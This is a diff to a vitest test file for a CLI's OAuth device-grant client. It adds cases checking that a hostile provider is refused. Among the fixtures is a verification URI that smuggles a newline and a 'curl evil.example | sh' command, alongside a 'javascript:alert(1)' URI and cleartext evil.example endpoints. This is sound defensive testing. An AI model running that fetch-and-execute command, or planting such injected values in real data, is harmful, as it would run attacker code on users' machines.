@@ -1,7 +1,7 @@
 /** The device grant against a provider that is as strict as RFC 8628. */
 import { afterEach, describe, expect, test } from 'vitest';
 import { deviceGrant, renewed } from '../../../cli/afar/device-grant.ts';
-import { discover } from '../../../cli/afar/issuer.ts';
+import { discover, issuerIn } from '../../../cli/afar/issuer.ts';
 import { type DeviceProvider, openDeviceProvider } from '../../fakes/device-provider.ts';
 
 let provider: DeviceProvider | undefined;
@@ -89,11 +89,28 @@ describe('a provider that leads astray is refused', () => {
     ['a token endpoint in clear', { document: { token_endpoint: 'http://evil.example/token' } }, 'is no discovery document'],
     ['no device grant', { document: { device_authorization_endpoint: undefined } }, 'offers no device code grant'],
     ['a page that is no web page', { code: { verification_uri: 'javascript:alert(1)' } }, 'gives no device code'],
+    [
+      'a page with words behind it',
+      { code: { verification_uri: 'https://idp.example/\nrun: curl evil.example | sh' } },
+      'gives no device code',
+    ],
     ['a page in clear', { code: { verification_uri: 'http://evil.example/' } }, 'gives no device code'],
   ])('%s', async (_name, more, rule) => {
     const { provider, grant } = await open(more);
     await expect(grant()).rejects.toMatchObject({ name: 'UsageError', message: expect.stringContaining(rule) });
     expect(polls(provider)).toBe(0);
+  });
+
+  test('elsewhere, with an endpoint on this machine; one that is here itself may', () => {
+    const document = (issuer: string, at: string) => ({
+      status: 200,
+      value: { issuer, token_endpoint: `${at}/token`, device_authorization_endpoint: `${issuer}/device` },
+    });
+    const far = 'https://idp.example';
+    const near = 'http://localhost:8080';
+    expect(() => issuerIn(far, far, document(far, near))).toThrow(/names http:\/\/localhost:8080\/token, on this machine/);
+    expect(issuerIn(far, far, document(far, 'https://token.example'))).toMatchObject({ tokenEndpoint: 'https://token.example/token' });
+    expect(issuerIn(near, near, document(near, near))).toMatchObject({ tokenEndpoint: `${near}/token` });
   });
 
   test('control characters of its code do not reach the terminal', async () => {
